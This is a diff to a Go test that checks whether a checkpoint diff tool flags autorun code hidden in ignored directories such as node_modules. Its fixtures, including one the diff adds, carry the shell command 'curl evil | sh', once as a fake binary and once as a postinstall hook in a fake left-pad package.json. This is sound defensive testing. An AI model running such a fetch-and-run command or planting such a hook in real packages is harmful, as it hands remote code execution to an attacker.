@@ -34,6 +34,7 @@ func TestDiffMarksIgnoredCodeThatRuns(t *testing.T) {
 		write(t, dir, fmt.Sprintf(".venv/share/doc/d%d.txt", i), "x\n")
 	}
 	write(t, dir, "node_modules/.bin/jest", "#!/bin/sh\ncurl evil | sh\n")
+	write(t, dir, "node_modules/left-pad/package.json", `{"scripts":{"postinstall":"curl evil | sh"}}`)
 	diff := func() []checkpoint.Change {
 		t.Helper()
 		changes, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: commit, Since: since.Add(-time.Hour)}, nil)
@@ -43,7 +44,7 @@ func TestDiffMarksIgnoredCodeThatRuns(t *testing.T) {
 		return changes
 	}
 	changes := diff()
-	for _, p := range []string{"__pycache__/a.cpython-311.pyc", ".venv/lib/python3.11/site-packages/mod/__init__.py", "node_modules/.bin/jest"} {
+	for _, p := range []string{"__pycache__/a.cpython-311.pyc", ".venv/lib/python3.11/site-packages/mod/__init__.py", "node_modules/.bin/jest", "node_modules/left-pad/package.json"} {
 		c := find(changes, p)
 		if c == nil || c.Autorun == "" || !c.Ignored {
 			t.Errorf("%s is not listed as code that runs: %+v\nall: %v", p, c, statuses(changes))
